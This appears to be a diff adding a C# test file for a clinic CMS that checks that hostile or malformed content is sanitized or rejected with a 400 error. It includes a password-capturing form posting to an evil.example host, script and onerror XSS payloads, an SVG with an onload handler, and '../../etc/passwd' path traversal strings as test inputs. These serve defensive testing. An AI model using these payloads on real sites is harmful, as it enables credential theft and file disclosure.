@@ -1,0 +1,177 @@
+using System.Net;
+using System.Net.Http.Json;
+using System.Text;
+using System.Text.Json.Nodes;
+using AngleSharp.Html.Dom;
+using AngleSharp.Html.Parser;
+using ClinicCms.Tests.GraphQL;
+using ClinicCms.Tests.TestHost;
+
+namespace ClinicCms.Tests.Security;
+
+/// <summary>Hostile or out-of-range content gets a 400 naming the problem, never a 500, and nothing is written.</summary>
+public sealed class BadInputTests(BadInputTests.Site shared) : IClassFixture<BadInputTests.Site>
+{
+    /// <summary>One site for the class: the tests add items of their own and do not count each other's.</summary>
+    public sealed class Site : IAsyncLifetime
+    {
+        public SecuredSite Value { get; private set; } = null!;
+
+        public async ValueTask InitializeAsync() => Value = await SecuredSite.StartAsync();
+
+        public ValueTask DisposeAsync() => Value.DisposeAsync();
+    }
+
+    [Fact]
+    public async Task Html_loses_forms_and_iframes_unless_the_part_settings_allow_them()
+    {
+        var site = shared.Value;
+        using var editor = site.WithToken(await site.TokenAsync("editor-app", "Editor-app-secret-1"));
+        var ct = TestContext.Current.CancellationToken;
+        const string html = "<p>Hi</p><form action=\"https://evil.example/steal\"><label>Password <input name=\"password\" type=\"password\"></label>"
+            + "<select name=\"s\"><option>a</option></select><textarea name=\"t\">t</textarea><button>Sign in</button></form>"
+            + "<iframe src=\"https://evil.example/\"></iframe><img src=\"x.png\" onerror=\"alert(1)\"><script>alert(2)</script>";
+        string[] formsAndFrames = ["<form", "<input", "<select", "<option", "<textarea", "<button", "<iframe"];
+        string[] scripts = ["<script", "onerror"];
+
+        using var byDefault = await editor.PostAsJsonAsync("/api/content", Article("Default sanitizing", "articles/default-sanitizing", html), ct);
+        var cleaned = (await GraphQLClient.Parse(byDefault))["HtmlBodyPart"]!["Html"]!.GetValue<string>();
+        Assert.Equal(HttpStatusCode.OK, byDefault.StatusCode);
+        Assert.Contains("<p>Hi</p>", cleaned, StringComparison.Ordinal);
+        Assert.All(formsAndFrames.Concat(scripts), tag => Assert.DoesNotContain(tag, cleaned, StringComparison.OrdinalIgnoreCase));
+
+        await site.App.RunRecipeTextAsync("""
+            { "steps": [ { "name": "ContentDefinition", "ContentTypes": [ { "Name": "Article", "ContentTypePartDefinitionRecords": [
+                { "PartName": "HtmlBodyPart", "Name": "HtmlBodyPart", "Settings": { "HtmlBodyPartSettings": { "SanitizeHtml": true, "AllowForms": true, "AllowIframes": true } } } ] } ] } ] }
+            """, "allow-forms.recipe.json");
+        using var allowed = await editor.PostAsJsonAsync("/api/content", Article("Forms allowed", "articles/forms-allowed", html), ct);
+        var kept = (await GraphQLClient.Parse(allowed))["HtmlBodyPart"]!["Html"]!.GetValue<string>();
+        Assert.Equal(HttpStatusCode.OK, allowed.StatusCode);
+        Assert.All(formsAndFrames, tag => Assert.Contains(tag, kept, StringComparison.OrdinalIgnoreCase));
+        Assert.All(scripts, tag => Assert.DoesNotContain(tag, kept, StringComparison.OrdinalIgnoreCase));
+    }
+
+    [Fact]
+    public async Task Unpaired_surrogates_huge_numbers_and_bad_paths_are_400s_naming_the_field_and_nothing_is_saved()
+    {
+        var site = shared.Value;
+        using var editor = site.WithToken(await site.TokenAsync("editor-app", "Editor-app-secret-1"));
+        var ct = TestContext.Current.CancellationToken;
+
+        // Raw JSON: "\ud800" is an escaped lone surrogate, and 1e308 is a valid JSON number no decimal holds.
+        const string faq = """{ "ContentType": "FAQ", "TitlePart": { "Title": TITLE }, "FAQ": { "Category": { "Text": "general" }, "Order": { "Value": ORDER } } }""";
+        using var surrogate = await PostRawAsync(editor, faq.Replace("TITLE", "\"Half \\ud800 a pair\"", StringComparison.Ordinal).Replace("ORDER", "1", StringComparison.Ordinal));
+        using var surrogateInPart = await PostRawAsync(editor, faq.Replace("TITLE", "\"Fine\"", StringComparison.Ordinal).Replace("\"general\"", "\"\\udc00\"", StringComparison.Ordinal).Replace("ORDER", "1", StringComparison.Ordinal));
+        using var huge = await PostRawAsync(editor, faq.Replace("TITLE", "\"Huge order\"", StringComparison.Ordinal).Replace("ORDER", "1e308", StringComparison.Ordinal));
+        Assert.Equal(HttpStatusCode.BadRequest, surrogate.StatusCode);
+        Assert.Contains("TitlePart.Title: the text has an unpaired UTF-16 surrogate", await surrogate.Content.ReadAsStringAsync(ct), StringComparison.Ordinal);
+        Assert.Equal(HttpStatusCode.BadRequest, surrogateInPart.StatusCode);
+        Assert.Contains("FAQ.Category.Text: the text has an unpaired UTF-16 surrogate", await surrogateInPart.Content.ReadAsStringAsync(ct), StringComparison.Ordinal);
+        Assert.Equal(HttpStatusCode.BadRequest, huge.StatusCode);
+        Assert.Contains("FAQ.Order: 1e308 is out of range", await huge.Content.ReadAsStringAsync(ct), StringComparison.Ordinal);
+
+        foreach (var (path, message) in new[]
+        {
+            ("articles/../admin", "has an empty, '.' or '..' segment"),
+            ("articles//twice", "has an empty, '.' or '..' segment"),
+            ("articles/<script>alert(1)</script>", "has a character that is not allowed ('<')"),
+            ("articles/\"quoted\"", "has a character that is not allowed ('\"')"),
+            ("articles/with space", "has a character that is not allowed (U+0020)"),
+            ("articles/tab\there", "has a character that is not allowed (U+0009)"),
+            (new string('a', 1100), "the path is 1100 characters long; at most 1024 are allowed"),
+        })
+        {
+            using var response = await editor.PostAsJsonAsync("/api/content", Article("Bad path", path), ct);
+            Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
+            var problem = (await GraphQLClient.Parse(response))["errors"]!["AutoroutePart.Path"]![0]!.GetValue<string>();
+            Assert.Contains(message, problem, StringComparison.Ordinal);
+        }
+        var emptyMedia = Article("Empty media", "articles/empty-media");
+        emptyMedia["Article"]!["HeroImage"] = new JsonObject { ["Paths"] = new JsonArray("", "../../etc/passwd"), ["MediaTexts"] = new JsonArray("", "") };
+        using var mediaPaths = await editor.PostAsJsonAsync("/api/content", emptyMedia, ct);
+        Assert.Equal(HttpStatusCode.BadRequest, mediaPaths.StatusCode);
+        var mediaErrors = (await GraphQLClient.Parse(mediaPaths))["errors"]!;
+        Assert.Equal("a media path is required, got an empty string", mediaErrors["Article.HeroImage.Paths[0]"]![0]!.GetValue<string>());
+        Assert.StartsWith("'../../etc/passwd' is not a media path", mediaErrors["Article.HeroImage.Paths[1]"]![0]!.GetValue<string>(), StringComparison.Ordinal);
+
+        // Letters of any script are fine, with their combining marks; the path is kept as written.
+        using var unicode = await editor.PostAsJsonAsync("/api/content", Article("Ünicode", "/artikel/cafe\u0301-ketamin-治疗/"), ct);
+        Assert.Equal(HttpStatusCode.OK, unicode.StatusCode);
+        Assert.Equal("artikel/cafe\u0301-ketamin-治疗", (await GraphQLClient.Parse(unicode))["AutoroutePart"]!["Path"]!.GetValue<string>());
+        var graphql = await new GraphQLClient(site.WithToken(await site.TokenAsync("reader-app", "Reader-app-secret-1")))
+            .DataAsync("{ faqCount articleCount(where: { displayText: \"Bad path\" }) }");
+        Assert.Equal(8, graphql["faqCount"]!.GetValue<int>());
+        Assert.Equal(0, graphql["articleCount"]!.GetValue<int>());
+
+        // Recipes too, and an SVG with script in the media step is refused before anything is written.
+        var recipe = await Assert.ThrowsAsync<ClinicCms.Recipes.RecipeException>(() => site.App.RunRecipeTextAsync("""
+            { "steps": [
+              { "name": "media", "Files": [ { "TargetPath": "logo.svg", "Base64": "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" } ] },
+              { "name": "content", "data": [ { "ContentItemId": "badpath000000000000000001", "ContentItemVersionId": "badpathv00000000000000001",
+                "ContentType": "Article", "TitlePart": { "Title": "Recipe path" }, "Article": { "Summary": { "Text": "x" } }, "AutoroutePart": { "Path": "articles/<b>" } } ] } ] }
+            """, "bad-path.recipe.json"));
+        Assert.Equal(
+            ["bad-path.recipe.json: steps[0] (media) Files[0].Base64: the SVG has an event handler attribute 'onload'",
+             "bad-path.recipe.json: steps[1] (content) data[0].AutoroutePart.Path: the path 'articles/<b>' has a character that is not allowed ('<'); paths use letters, digits, '-', '_', '.', '~' and '/' between segments"],
+            recipe.Errors.Select(e => e.ToString()));
+
+        // The admin's form takes the same rules: the error is shown beside the field and nothing is saved.
+        using var admin = await site.SignedInAsync("admin", ClinicCmsApp.AdminPassword);
+        var page = await admin.GetStringAsync($"/admin/content/{ClinicIds.Article}/edit", ct);
+        var values = FormValues(page);
+        values["AutoroutePart.Path"] = "articles/../../etc/passwd";
+        values["action"] = "publish";
+        using var posted = await admin.PostAsync($"/admin/content/{ClinicIds.Article}/edit", new FormUrlEncodedContent(values), ct);
+        Assert.Equal(HttpStatusCode.OK, posted.StatusCode);
+        Assert.Contains("has an empty, &#x27;.&#x27; or &#x27;..&#x27; segment", await posted.Content.ReadAsStringAsync(ct), StringComparison.Ordinal);
+        var stored = await editor.GetFromJsonAsync<JsonObject>($"/api/content/{ClinicIds.Article}", ct);
+        Assert.Equal("articles/how-many-ketamine-infusions-will-i-need", stored!["AutoroutePart"]!["Path"]!.GetValue<string>());
+    }
+
+    private static Task<HttpResponseMessage> PostRawAsync(HttpClient http, string json) =>
+        http.PostAsync("/api/content", new StringContent(json, Encoding.UTF8, "application/json"));
+
+    private static JsonObject Article(string title, string? path, string? html = null)
+    {
+        var article = new JsonObject
+        {
+            ["ContentType"] = "Article",
+            ["TitlePart"] = new JsonObject { ["Title"] = title },
+            ["Article"] = new JsonObject { ["Summary"] = new JsonObject { ["Text"] = "x" } },
+        };
+        if (path is not null)
+        {
+            article["AutoroutePart"] = new JsonObject { ["Path"] = path };
+        }
+        if (html is not null)
+        {
+            article["HtmlBodyPart"] = new JsonObject { ["Html"] = html };
+        }
+        return article;
+    }
+
+    /// <summary>Every value the form would post as it stands, as a browser collects them.</summary>
+    internal static Dictionary<string, string> FormValues(string page)
+    {
+        var form = new HtmlParser().ParseDocument(page).QuerySelector("form.editor") as IHtmlFormElement;
+        var values = new Dictionary<string, string>();
+        foreach (var element in form!.Elements)
+        {
+            switch (element)
+            {
+                case IHtmlInputElement { Type: "checkbox" or "radio", IsChecked: false } or IHtmlInputElement { Type: "submit" or "button" }:
+                    break;
+                case IHtmlInputElement input when !string.IsNullOrEmpty(input.Name):
+                    values[input.Name] = input.Value;
+                    break;
+                case IHtmlTextAreaElement area when !string.IsNullOrEmpty(area.Name):
+                    values[area.Name] = area.Value;
+                    break;
+                case IHtmlSelectElement select when !string.IsNullOrEmpty(select.Name):
+                    values[select.Name] = select.Value ?? "";
+                    break;
+            }
+        }
+        return values;
+    }
+}
